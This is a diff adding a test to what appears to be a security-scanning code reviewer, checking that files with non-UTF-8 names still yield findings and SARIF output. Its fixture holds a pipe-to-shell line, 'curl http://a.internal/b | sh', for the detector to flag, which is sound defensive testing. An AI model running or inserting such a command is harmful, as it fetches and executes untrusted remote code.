@@ -205,3 +205,12 @@ def test_no_text_crashes_a_detector(files: list[tuple[str, str, str]]) -> None:
     """Whatever the files hold, every detector answers."""
     judged = judge(change(*(file(*one) for one in files)), plain_book(), Mode.STRICT, today=TODAY)
     assert judged.failure is None
+
+
+def test_a_name_that_is_no_text_is_told_as_far_as_it_is_one() -> None:
+    """Git's names are bytes; what is told of a file has to fit into UTF-8."""
+    pipe = file("\udcff.sh", None, "curl http://a.internal/b | sh\n")
+    program = FileChange("\udcfe", FileStatus.ADDED, None, b"\x7fELF\2\1\1" + bytes(99), mode=0o100755)
+    found = findings(pipe, program)
+    assert {finding.rule for finding in found} == {"SEC-008", "SYS-001"}
+    assert json.loads(to_sarif(ReviewResult(Verdict.WARN, found), book(), version="1"))["runs"][0]["results"]
